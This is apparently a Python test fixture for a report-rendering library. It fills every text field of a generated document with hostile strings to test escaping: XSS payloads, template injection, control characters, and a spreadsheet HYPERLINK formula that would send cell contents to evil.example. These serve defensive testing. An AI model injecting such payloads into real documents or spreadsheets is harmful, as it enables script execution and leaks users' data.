"""A document full of texts that want to be something else, for every writer."""

from __future__ import annotations

from datetime import date
from decimal import Decimal
from fractions import Fraction

from planner.report.document.schema import (
    Bars,
    Bullets,
    Column,
    Document,
    Fact,
    Facts,
    Group,
    Link,
    Paragraph,
    Person,
    Prose,
    Row,
    Section,
    Spans,
    Table,
    text,
)

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
IMAGE = '"><img src=x onerror=alert(1)>'
RIGHT_TO_LEFT = "abc\u202edcba\u2066x\u200f"
LONG = "W" * 200
EMOJI = "\U0001f469\u200d\U0001f4bb Ada \U0001f389"
MARKUP = (
    "[click](javascript:alert(1)) **bold** `code` | pipe | ![x](y) # <b> &amp; https://evil.example www.evil.example"
)
CONTROL = "tab\there\x00null\x1b[31mred\r\nnew line\u2028and\ufeff"
STYLE = "</style><script>alert(2)</script>{% raw %}{{ 7*7 }}"
TEXTS = (SCRIPT, FORMULA, IMAGE, RIGHT_TO_LEFT, LONG, EMOJI, MARKUP, CONTROL, STYLE, "+1+1", "-1", "@SUM(A1)", "＝1+1")

DAY = date(2018, 1, 31)


def hostile_document(language: str = "en") -> Document:
    """Every kind of block, with such texts wherever users' texts may stand."""
    people = tuple(Person(f"{number}{each}", each) for number, each in enumerate(TEXTS))
    columns = (
        Column("employee", SCRIPT, "employee"),
        Column("exam", FORMULA),
        Column("on", IMAGE, "day"),
        Column("until", LONG, "day"),
        Column("count", EMOJI, "count"),
        Column("cost", MARKUP, "money", "USD"),
        Column("share", STYLE, "share", bar=True),
        Column("team", "Team", personal=True),
        Column("state", "State"),
    )
    rows = tuple(
        Row((who, who.name, DAY, date(2018, 3, 1), 3, Decimal("12.50"), Fraction(1, 3), who.name, who.name), level=1)
        for who in people
    )
    table = Table(SCRIPT, columns, rows, total=Row((FORMULA, None, None, None, 39, 1, 1, None, None)), notes=_prose())
    bars = Bars(IMAGE, SCRIPT, table, "exam", ("count",))
    spans = Spans(STYLE, FORMULA, table, ("employee", "exam"), "on", "until", mark="on", state="state")
    return Document(
        title=SCRIPT + FORMULA + LONG,
        language=language,
        as_of=DAY,
        lines=_prose(),
        sections=(
            Section(
                "answer",
                IMAGE,
                (
                    *(Paragraph(each, lead=True) for each in _prose()),
                    Facts(tuple(Fact(each, each, tone="good") for each in TEXTS)),
                ),
            ),
            Section("sittings", STYLE, (table, Bullets(_prose()))),
            Section("calendar", LONG, (bars, spans)),
            Section("rules", MARKUP, (Group(SCRIPT, (table,)), Group(FORMULA, (Paragraph(_prose()[0]),), folded=True))),
        ),
        closing=_prose(),
    )


def _prose() -> tuple[Prose, ...]:
    return tuple(text(each, Person(each, each), Link(each, "https://example.com/?a=1&b=%22")) for each in TEXTS)
